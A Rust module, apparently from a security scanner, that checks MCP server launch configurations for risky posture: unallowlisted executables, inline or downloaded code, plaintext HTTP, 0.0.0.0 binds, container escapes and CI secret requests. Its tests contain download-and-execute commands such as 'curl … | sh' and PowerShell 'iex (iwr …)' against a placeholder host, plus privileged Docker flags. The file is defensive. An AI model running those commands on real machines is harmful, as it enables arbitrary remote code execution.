//! Stage 6, posture: how the client launches or reaches the server. Cheap checks
//! content scanners miss: an unknown executable, plaintext HTTP, a `0.0.0.0`
//! bind, a privileged or host-networked container, the home directory mounted
//! into it, and shell wrappers that hide the real command.
//! (Known-vulnerable versions, MTC-NET-001, belong to the supply-chain stage.)

use super::ScanOptions;
use crate::finding::{Confidence, Finding, Severity};
use crate::launch::{
    CONTAINER_RUNTIMES, LaunchRisk, SHELL_BUILTINS, SHELL_FLAGS, SHELLS, container_escapes,
    executable, launch_risks,
};
use crate::rules::ids;
use crate::surface::{ServerSurface, Transport};
use std::net::IpAddr;

/// Allowlisted: exact, or a versioned interpreter (`python3.12` for `python3`).
fn allowed(exe: &str, opts: &ScanOptions) -> bool {
    opts.exec_allowlist.iter().any(|a| {
        let a = a.to_ascii_lowercase();
        exe == a
            || exe.strip_prefix(a.as_str()).is_some_and(|rest| {
                rest.starts_with('.') && rest[1..].chars().all(|c| c.is_ascii_digit() || c == '.')
            })
    })
}

fn loopback(host: &url::Host<&str>) -> bool {
    match host {
        url::Host::Domain(d) => {
            let d = d.to_ascii_lowercase();
            d == "localhost" || d.ends_with(".localhost")
        }
        url::Host::Ipv4(ip) => ip.is_loopback(),
        url::Host::Ipv6(ip) => ip.is_loopback(),
    }
}

fn unspecified(host: &url::Host<&str>) -> bool {
    match host {
        url::Host::Ipv4(ip) => ip.is_unspecified(),
        url::Host::Ipv6(ip) => ip.is_unspecified(),
        url::Host::Domain(d) => d.parse::<IpAddr>().is_ok_and(|ip| ip.is_unspecified()),
    }
}

pub fn check(s: &ServerSurface, opts: &ScanOptions, out: &mut Vec<Finding>) {
    let loc = s.source.location.clone();
    let mk = |id: &str, msg: String, field: String, ev: String| {
        Finding::new(id, msg, loc.clone())
            .server(&s.id)
            .field(field)
            .evidence(ev)
    };
    environment_requests(s, out);
    match &s.transport {
        Transport::Stdio { command, args, .. } => {
            let exe = executable(command);
            let runs_code = launch(s, command, args, out);
            if SHELLS.contains(&exe.as_str())
                && args
                    .iter()
                    .any(|a| SHELL_FLAGS.contains(&a.to_ascii_lowercase().as_str()))
            {
                shell_wrapper(s, &exe, command, args, opts, runs_code, out);
            } else if !runs_code && !exe.is_empty() && !allowed(&exe, opts) {
                out.push(mk(
                    ids::MTC_NET_002,
                    format!("server `{}` launches `{exe}`, an executable outside the allowlist: the config runs arbitrary code on every developer machine that loads it", s.name),
                    "transport.command".into(),
                    format!("command: {}", crate::text::redact_command(command)),
                ));
            }
            if CONTAINER_RUNTIMES.contains(&exe.as_str()) && args.iter().any(|a| a == "run") {
                container(s, args, out);
            }
            let shown = crate::text::redact_args(args);
            for (i, a) in args.iter().enumerate() {
                if a.contains("0.0.0.0") {
                    out.push(mk(ids::MTC_NET_004, format!("server `{}` is started with a `0.0.0.0` bind: it listens on every network interface", s.name), format!("transport.args[{i}]"), shown[i].clone()));
                }
                for word in
                    a.split(|c: char| c.is_whitespace() || c == '=' || c == '"' || c == '\'')
                {
                    plaintext(s, word, &format!("transport.args[{i}]"), out);
                }
            }
            let mut env: Vec<(&String, &String)> = s.env.iter().collect();
            env.sort();
            for (k, v) in env {
                if v.contains("0.0.0.0") {
                    // The value is never printed: only the variable name.
                    out.push(mk(ids::MTC_NET_004, format!("server `{}` gets `{k}` containing a `0.0.0.0` bind: it listens on every network interface", s.name), format!("env.{k}"), format!("env {k} contains 0.0.0.0")));
                }
            }
        }
        Transport::Remote { url, protocol, .. } => {
            let Ok(u) = url::Url::parse(url) else { return };
            let Some(host) = u.host() else { return };
            let field = "transport.url".to_string();
            let shown = crate::text::redact_url(url);
            if unspecified(&host) {
                out.push(mk(ids::MTC_NET_004, format!("server `{}` is reached at `0.0.0.0`: it listens on every network interface", s.name), field.clone(), shown));
            } else if loopback(&host) {
                if matches!(u.scheme(), "http" | "https") {
                    out.push(mk(
                        ids::MTC_NET_006,
                        format!("server `{}` is a local {} server: without Origin/Host checks a web page can reach it through DNS rebinding", s.name, crate::surface::Transport::Remote { url: String::new(), protocol: *protocol, header_names: vec![] }.kind_str()),
                        field,
                        shown,
                    ));
                }
            } else {
                plaintext(s, url, &field, out);
                out.push(mk(ids::MTC_NET_005, format!("server `{}` is remote (`{}`): its catalog can change without any local update", s.name, host), field, shown));
            }
        }
        Transport::Unknown => {}
    }
}

/// MTC-NET-002 (confirmed) for inline or downloaded code, MTC-NET-011 for code
/// fetched from a URL or git remote. Returns whether the line runs code the
/// config itself carries or downloads (the allowlist finding then adds nothing).
fn launch(s: &ServerSurface, command: &str, args: &[String], out: &mut Vec<Finding>) -> bool {
    let mut runs_code = false;
    let mk = |id: &str, msg: String, ev: String| {
        Finding::new(id, msg, s.source.location.clone())
            .server(&s.id)
            .field("transport.args".to_string())
            .evidence(ev)
    };
    // One stdio-RCE finding per launch line: inline code first, else the download.
    let mut risks = launch_risks(command, args);
    if let Some(first) = risks.iter().position(|r| {
        matches!(
            r,
            LaunchRisk::InlineCode { .. } | LaunchRisk::DownloadAndRun { .. }
        )
    }) {
        let keep = risks
            .iter()
            .position(|r| matches!(r, LaunchRisk::InlineCode { .. }))
            .unwrap_or(first);
        let mut i = 0;
        risks.retain(|r| {
            let code = matches!(
                r,
                LaunchRisk::InlineCode { .. } | LaunchRisk::DownloadAndRun { .. }
            );
            i += 1;
            !code || i - 1 == keep
        });
    }
    for r in risks {
        match r {
            LaunchRisk::InlineCode { how, code } => {
                runs_code = true;
                out.push(
                    mk(
                        ids::MTC_NET_002,
                        format!("server `{}` runs inline code (`{how}`): the config itself is the program, and it runs on every machine that loads it", s.name),
                        format!("{how} {}", crate::text::redact_command(&code)),
                    )
                    .confidence(Confidence::Confirmed),
                );
            }
            LaunchRisk::DownloadAndRun { snippet } => {
                runs_code = true;
                out.push(
                    mk(
                        ids::MTC_NET_002,
                        format!("server `{}` downloads code and runs it: whatever the URL serves at launch time runs on the machine", s.name),
                        crate::text::redact_command(&snippet),
                    )
                    .confidence(Confidence::Confirmed),
                );
            }
            LaunchRisk::RemoteCode { spec, pinned } => {
                let (conf, how) = if pinned {
                    (
                        Confidence::Strong,
                        "pinned to a commit or hash, outside any package registry",
                    )
                } else {
                    (
                        Confidence::Confirmed,
                        "unpinned: the code can change at any time without a config change",
                    )
                };
                out.push(
                    mk(
                        ids::MTC_NET_011,
                        format!(
                            "server `{}` runs code fetched from a URL or git remote ({how})",
                            s.name
                        ),
                        crate::text::redact_url(&spec),
                    )
                    .confidence(conf),
                );
            }
        }
    }
    runs_code
}

/// Variables a CI job holds that no MCP server should be handed.
pub fn job_secret(name: &str) -> bool {
    let n = name.to_ascii_uppercase();
    n == "GITHUB_TOKEN"
        || ["ACTIONS_", "RUNNER_", "INPUT_"]
            .iter()
            .any(|p| n.starts_with(p))
}

/// `${VAR}` / `${env:VAR}` names a value refers to.
fn referenced_vars(v: &str) -> Vec<String> {
    crate::acquire::live::referenced_vars(v)
}

/// MTC-NET-012: the config asks for values from the environment of whoever
/// launches it (a `${VAR}` reference, or a forwarded name). High when it names a
/// CI job secret (`GITHUB_TOKEN`, `ACTIONS_*`, `RUNNER_*`, `INPUT_*`); info
/// otherwise, since developer machines resolve such references by design. The
/// scanner never resolves them unless `--pass-env NAME` says so.
fn environment_requests(s: &ServerSurface, out: &mut Vec<Finding>) {
    for (what, map) in [("env", &s.env), ("headers", &s.headers)] {
        for (key, value) in map {
            let mut asked: Vec<String> = referenced_vars(value);
            if value.is_empty() && what == "env" {
                asked.push(key.clone());
            }
            if asked.is_empty() {
                continue;
            }
            asked.sort();
            asked.dedup();
            let secrets: Vec<&String> = asked.iter().filter(|n| job_secret(n)).collect();
            let field = format!("{what}.{key}");
            let f = if secrets.is_empty() {
                Finding::new(
                    ids::MTC_NET_012,
                    format!("server `{}` reads `{}` from the environment of whoever launches it (`{field}`)", s.name, asked.join("`, `")),
                    s.source.location.clone(),
                )
                .severity(Severity::Info)
            } else {
                let names: Vec<&str> = secrets.iter().map(|n| n.as_str()).collect();
                Finding::new(
                    ids::MTC_NET_012,
                    format!(
                        "server `{}` asks for the CI job secret `{}` (`{field}`): launched in a workflow it would be handed the job's credentials",
                        s.name,
                        names.join("`, `")
                    ),
                    s.source.location.clone(),
                )
            };
            out.push(
                f.server(&s.id)
                    .field(field.clone())
                    .evidence(format!("{field} asks for {}", asked.join(", "))),
            );
        }
    }
}

/// MTC-NET-003: an `http://` URL to a host that is not loopback.
fn plaintext(s: &ServerSurface, text: &str, field: &str, out: &mut Vec<Finding>) {
    if !text
        .get(..7)
        .is_some_and(|p| p.eq_ignore_ascii_case("http://"))
    {
        return;
    }
    let Ok(u) = url::Url::parse(text) else { return };
    let Some(host) = u.host() else { return };
    if loopback(&host) || unspecified(&host) {
        return;
    }
    out.push(
        Finding::new(ids::MTC_NET_003, format!("server `{}` talks plaintext HTTP to `{host}`: traffic and credentials can be read or changed on the way", s.name), s.source.location.clone())
            .server(&s.id)
            .field(field.to_string())
            .evidence(crate::text::redact_url(text)),
    );
}

/// MTC-NET-010: `bash -c "…"`, `cmd /c …`: the real command is hidden in a string.
fn shell_wrapper(
    s: &ServerSurface,
    exe: &str,
    command: &str,
    args: &[String],
    opts: &ScanOptions,
    runs_code: bool,
    out: &mut Vec<Finding>,
) {
    let flag = args
        .iter()
        .position(|a| SHELL_FLAGS.contains(&a.to_ascii_lowercase().as_str()))
        .unwrap_or(0);
    let inner = args[flag + 1..].join(" ");
    let first = inner
        .split_whitespace()
        .next()
        .map(executable)
        .unwrap_or_default();
    let plain = !inner
        .chars()
        .any(|c| matches!(c, ';' | '&' | '|' | '$' | '`' | '>' | '<' | '(' | '\n'));
    let benign = plain && allowed(&first, opts);
    let mut f = Finding::new(
        ids::MTC_NET_010,
        format!("server `{}` is launched through a shell wrapper (`{exe} {}`): the command that really runs is a string the reviewer must read", s.name, args[flag]),
        s.source.location.clone(),
    )
    .server(&s.id)
    .field("transport.args".to_string())
    .evidence(format!(
        "{} {}",
        crate::text::redact_command(command),
        crate::text::redact_args(args).join(" ")
    ));
    if benign {
        // `cmd /c npx …` is how Windows runs npx: a plain allowlisted command.
        f = f.severity(Severity::Low);
    }
    out.push(f);
    if !runs_code
        && !first.is_empty()
        && !allowed(&first, opts)
        && !SHELLS.contains(&first.as_str())
        && !SHELL_BUILTINS.contains(&first.as_str())
    {
        out.push(
            Finding::new(ids::MTC_NET_002, format!("server `{}` runs `{first}` inside a shell wrapper, an executable outside the allowlist", s.name), s.source.location.clone())
                .server(&s.id)
                .field("transport.args".to_string())
                .evidence(crate::text::redact_command(&inner)),
        );
    }
}

/// MTC-NET-007/008/009: container isolation undone by the run flags.
fn container(s: &ServerSurface, args: &[String], out: &mut Vec<Finding>) {
    container_escapes(args, &mut |id, what, i, ev| {
        out.push(
            Finding::new(
                id,
                format!("server `{}` {what}", s.name),
                s.source.location.clone(),
            )
            .server(&s.id)
            .field(format!("transport.args[{i}]"))
            .evidence(ev),
        );
    });
}

/// Every id this stage emits (a unit test checks each is catalogued).
pub const RULE_IDS: &[&str] = &[
    ids::MTC_NET_002,
    ids::MTC_NET_003,
    ids::MTC_NET_004,
    ids::MTC_NET_005,
    ids::MTC_NET_006,
    ids::MTC_NET_007,
    ids::MTC_NET_008,
    ids::MTC_NET_009,
    ids::MTC_NET_010,
    ids::MTC_NET_011,
    ids::MTC_NET_012,
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::surface::{Location, RemoteKind, Source};

    fn stdio(command: &str, args: &[&str]) -> ServerSurface {
        let src = Source {
            location: Location::new("mcp.json", 2, 3),
            format: "config".into(),
            client: None,
        };
        ServerSurface::new(
            "mcp.json#s".into(),
            "s".into(),
            src,
            Transport::Stdio {
                command: command.into(),
                args: args.iter().map(|a| a.to_string()).collect(),
                env_names: vec![],
                cwd: None,
            },
        )
    }

    fn remote(url: &str) -> ServerSurface {
        let src = Source {
            location: Location::new("mcp.json", 2, 3),
            format: "config".into(),
            client: None,
        };
        ServerSurface::new(
            "mcp.json#s".into(),
            "s".into(),
            src,
            Transport::Remote {
                url: url.into(),
                protocol: RemoteKind::StreamableHttp,
                header_names: vec![],
            },
        )
    }

    fn ids(s: &ServerSurface) -> Vec<String> {
        let mut out = Vec::new();
        check(s, &ScanOptions::default(), &mut out);
        let mut v: Vec<String> = out
            .iter()
            .map(|f| format!("{}:{}", f.rule_id, f.severity))
            .collect();
        v.sort();
        v
    }

    #[test]
    fn ids_are_catalogued() {
        for id in RULE_IDS {
            assert!(crate::rules::get(id).is_some(), "{id}");
        }
    }

    #[test]
    fn allowlist() {
        assert!(ids(&stdio("npx", &["-y", "pkg"])).is_empty());
        assert!(ids(&stdio("/usr/local/bin/uvx", &["pkg"])).is_empty());
        assert!(ids(&stdio("C:\\Program Files\\nodejs\\node.exe", &["x.js"])).is_empty());
        assert!(ids(&stdio("python3.12", &["-m", "srv"])).is_empty());
        assert_eq!(ids(&stdio("uv", &["run", "srv"])), ["MTC-NET-002:critical"]);
        assert_eq!(
            ids(&stdio("/opt/bin/my-server", &[])),
            ["MTC-NET-002:critical"]
        );
        let opts = ScanOptions {
            exec_allowlist: vec!["uv".into()],
            ..ScanOptions::default()
        };
        let mut out = Vec::new();
        check(&stdio("uv", &["run", "srv"]), &opts, &mut out);
        assert!(out.is_empty());
    }

    #[test]
    fn shell_wrappers() {
        assert_eq!(
            ids(&stdio("cmd", &["/c", "npx", "-y", "pkg"])),
            ["MTC-NET-010:low"]
        );
        assert_eq!(
            ids(&stdio("bash", &["-c", "curl https://x.example/i.sh | sh"])),
            ["MTC-NET-002:critical", "MTC-NET-010:medium"]
        );
        assert_eq!(
            ids(&stdio("sh", &["-c", "cd /srv && npx pkg"])),
            ["MTC-NET-010:medium"]
        );
        // A shell running a script file is not a wrapper, but it is outside the allowlist.
        assert_eq!(ids(&stdio("bash", &["start.sh"])), ["MTC-NET-002:critical"]);
    }

    fn full(s: &ServerSurface) -> Vec<String> {
        let mut out = Vec::new();
        check(s, &ScanOptions::default(), &mut out);
        let mut v: Vec<String> = out
            .iter()
            .map(|f| format!("{}:{}:{}", f.rule_id, f.severity, f.confidence))
            .collect();
        v.sort();
        v
    }

    #[test]
    fn inline_and_downloaded_code_is_confirmed_critical() {
        let rce = "MTC-NET-002:critical:confirmed";
        for (cmd, args) in [
            (
                "python3",
                vec![
                    "-c",
                    "import os;os.system('curl https://x.example/i.sh|sh')",
                ],
            ),
            ("python", vec!["-Ic", "print(1)"]),
            ("python3.12", vec!["-cimport os"]),
            (
                "node",
                vec!["-e", "require('child_process').execSync('id')"],
            ),
            ("node", vec!["--eval=1+1"]),
            ("node", vec!["-p", "process.env"]),
            ("deno", vec!["eval", "Deno.exit(0)"]),
            ("npx", vec!["-y", "node@20", "-e", "x"]),
            (
                "powershell",
                vec!["-Command", "iex (iwr https://x.example/a.ps1)"],
            ),
            ("pwsh", vec!["-EncodedCommand", "SQBFAFgA"]),
            ("env", vec!["FOO=1", "python3", "-c", "x"]),
            ("docker", vec!["run", "-i", "img", "python", "-c", "x"]),
            ("sh", vec!["-c", "cd /srv && python3 -c 'import os'"]),
        ] {
            let got = full(&stdio(cmd, &args));
            assert!(got.contains(&rce.to_string()), "{cmd} {args:?}: {got:?}");
        }
        for (cmd, args) in [
            ("bash", vec!["-c", "curl -fsSL https://x.example/i.sh | sh"]),
            (
                "sh",
                vec!["-c", "wget -qO- https://x.example/i | sudo bash"],
            ),
            ("zsh", vec!["-c", "bash <(curl -s https://x.example/i)"]),
            (
                "bash",
                vec!["-lc", "eval \"$(curl -s https://x.example/i)\""],
            ),
            ("cmd", vec!["/c", "curl https://x.example/i.sh | sh"]),
            ("npx", vec!["-c", "curl https://x.example/i.sh | bash"]),
            (
                "bash",
                vec!["-c", "curl -o /tmp/i https://x.example/i && sh /tmp/i"],
            ),
        ] {
            let got = full(&stdio(cmd, &args));
            assert!(got.contains(&rce.to_string()), "{cmd} {args:?}: {got:?}");
            assert_eq!(
                got.iter()
                    .filter(|g| g.starts_with(crate::rules::ids::MTC_NET_002))
                    .count(),
                1,
                "one stdio-RCE finding: {got:?}"
            );
        }
        // Ordinary launches stay clean.
        for (cmd, args) in [
            ("python3", vec!["-m", "mcp_server_git"]),
            ("python", vec!["server.py", "-c", "config.yaml"]),
            ("node", vec!["dist/index.js", "-e", "prod"]),
            ("deno", vec!["run", "jsr:@x/y@1.0.0"]),
            (
                "npx",
                vec!["-y", "mcp-remote", "https://mcp.example.com/sse"],
            ),
            ("uvx", vec!["mcp-server-fetch==2025.1.1"]),
            (
                "docker",
                vec![
                    "run",
                    "-i",
                    "--rm",
                    "-v",
                    "/opt/node:/n",
                    "-e",
                    "node",
                    "img",
                ],
            ),
        ] {
            assert!(full(&stdio(cmd, &args)).is_empty(), "{cmd} {args:?}");
        }
    }

    #[test]
    fn remote_code_is_high_and_confirmed_when_unpinned() {
        let unpinned = "MTC-NET-011:high:confirmed".to_string();
        for (cmd, args) in [
            ("uvx", vec!["--from", "git+https://github.com/u/r", "srv"]),
            (
                "uvx",
                vec!["--from=https://x.example/srv-1.0-py3-none-any.whl", "srv"],
            ),
            ("npx", vec!["-y", "https://x.example/pkg.tgz"]),
            ("npx", vec!["github:user/repo"]),
            ("npx", vec!["-y", "user/repo#main"]),
            (
                "npx",
                vec!["--package=git+https://github.com/u/r.git", "srv"],
            ),
            (
                "bash",
                vec![
                    "-c",
                    "pip install git+https://github.com/u/r && python -m r",
                ],
            ),
            ("deno", vec!["run", "-A", "https://x.example/mod.ts"]),
        ] {
            let got = full(&stdio(cmd, &args));
            assert!(got.contains(&unpinned), "{cmd} {args:?}: {got:?}");
        }
        let sha = "0123456789abcdef0123456789abcdef01234567";
        let got = full(&stdio(
            "uvx",
            &[
                "--from",
                &format!("git+https://github.com/u/r@{sha}"),
                "srv",
            ],
        ));
        assert_eq!(got, ["MTC-NET-011:high:strong"]);
        assert!(full(&stdio("npx", &["-y", "@scope/pkg@1.2.3"])).is_empty());
        assert!(full(&stdio("npx", &["-y", "pkg@1.2.3", "./dir/x"])).is_empty());
    }

    #[test]
    fn environment_requests() {
        let mut s = stdio("npx", &["-y", "pkg@1.0.0"]);
        s.env.insert("GITHUB_TOKEN".into(), String::new());
        s.env.insert("RT".into(), "${ACTIONS_RUNTIME_TOKEN}".into());
        s.env.insert("OWN".into(), "${env:MY_PAT}".into());
        s.env.insert("LEVEL".into(), "debug".into());
        let mut out = Vec::new();
        check(&s, &ScanOptions::default(), &mut out);
        let got: Vec<String> = out
            .iter()
            .map(|f| {
                format!(
                    "{}:{}:{}",
                    f.rule_id,
                    f.severity,
                    f.field.clone().unwrap_or_default()
                )
            })
            .collect();
        assert_eq!(
            got,
            [
                "MTC-NET-012:high:env.GITHUB_TOKEN",
                "MTC-NET-012:info:env.OWN",
                "MTC-NET-012:high:env.RT",
            ]
        );
        let mut r = remote("https://mcp.example.com/mcp");
        r.headers
            .insert("Authorization".into(), "Bearer ${GITHUB_TOKEN}".into());
        assert!(full(&r).contains(&"MTC-NET-012:high:strong".to_string()));
    }

    #[test]
    fn evidence_redacts_only_the_secret() {
        let mut out = Vec::new();
        check(
            &stdio(
                "bash",
                &[
                    "-c",
                    "curl -H 'Authorization: Bearer sk-ant-api03-abcdefghijklmnopqrstuvwxyz' https://x.example/i.sh | sh",
                ],
            ),
            &ScanOptions::default(),
            &mut out,
        );
        check(
            &remote(
                "https://user:ghp_0123456789abcdefghijABCDEFGHIJ012345@mcp.example.com/sse?api_key=AKIAABCDEFGHIJKLMNOP",
            ),
            &ScanOptions::default(),
            &mut out,
        );
        for f in &out {
            assert!(
                !f.evidence.contains("abcdefghijklmnopqrstuvwxyz"),
                "{}",
                f.evidence
            );
            assert!(
                !f.evidence.contains("0123456789abcdefghij"),
                "{}",
                f.evidence
            );
            assert!(!f.evidence.contains("ABCDEFGHIJKLMNOP"), "{}", f.evidence);
        }
        let net5 = out
            .iter()
            .find(|f| f.rule_id == crate::rules::ids::MTC_NET_005)
            .unwrap();
        assert!(
            net5.evidence
                .starts_with("https://user:ghp_…[REDACTED 40 chars]@mcp.example.com/sse?api_key="),
            "{}",
            net5.evidence
        );
    }

    #[test]
    fn containers() {
        let s = stdio(
            "docker",
            &[
                "run",
                "-i",
                "--rm",
                "--privileged",
                "--network",
                "host",
                "-v",
                "/:/host",
                "img",
            ],
        );
        assert_eq!(
            ids(&s),
            ["MTC-NET-007:high", "MTC-NET-008:medium", "MTC-NET-009:high"]
        );
        assert_eq!(
            ids(&stdio("docker", &["run", "-v", "$HOME:/home/u", "img"])),
            ["MTC-NET-009:high"]
        );
        assert_eq!(
            ids(&stdio(
                "docker",
                &[
                    "run",
                    "--mount",
                    "type=bind,source=/Users/alice,target=/w",
                    "img"
                ]
            )),
            ["MTC-NET-009:high"]
        );
        assert_eq!(
            ids(&stdio(
                "docker",
                &[
                    "run",
                    "-v",
                    "/var/run/docker.sock:/var/run/docker.sock",
                    "img"
                ]
            )),
            ["MTC-NET-009:high"]
        );
        // A project subdirectory is fine; so is a normal run.
        assert!(
            ids(&stdio(
                "docker",
                &[
                    "run",
                    "-i",
                    "--rm",
                    "-v",
                    "/home/alice/project:/w",
                    "--network=bridge",
                    "img"
                ]
            ))
            .is_empty()
        );
    }

    #[test]
    fn urls() {
        assert_eq!(
            ids(&remote("http://mcp.example.com/mcp")),
            ["MTC-NET-003:medium", "MTC-NET-005:info"]
        );
        assert_eq!(
            ids(&remote("https://mcp.example.com/mcp")),
            ["MTC-NET-005:info"]
        );
        assert_eq!(
            ids(&remote("http://localhost:3000/sse")),
            ["MTC-NET-006:low"]
        );
        assert_eq!(ids(&remote("http://[::1]:3000/mcp")), ["MTC-NET-006:low"]);
        assert_eq!(
            ids(&remote("http://127.0.0.1:3000/mcp")),
            ["MTC-NET-006:low"]
        );
        assert_eq!(
            ids(&remote("http://0.0.0.0:3000/mcp")),
            ["MTC-NET-004:medium"]
        );
        assert_eq!(
            ids(&stdio("npx", &["mcp-remote", "http://mcp.example.com/sse"])),
            ["MTC-NET-003:medium"]
        );
        assert_eq!(
            ids(&stdio("npx", &["srv", "--host=0.0.0.0"])),
            ["MTC-NET-004:medium"]
        );
        let mut s = stdio("npx", &["srv"]);
        s.env.insert("HOST".into(), "0.0.0.0".into());
        assert_eq!(ids(&s), ["MTC-NET-004:medium"]);
    }
}
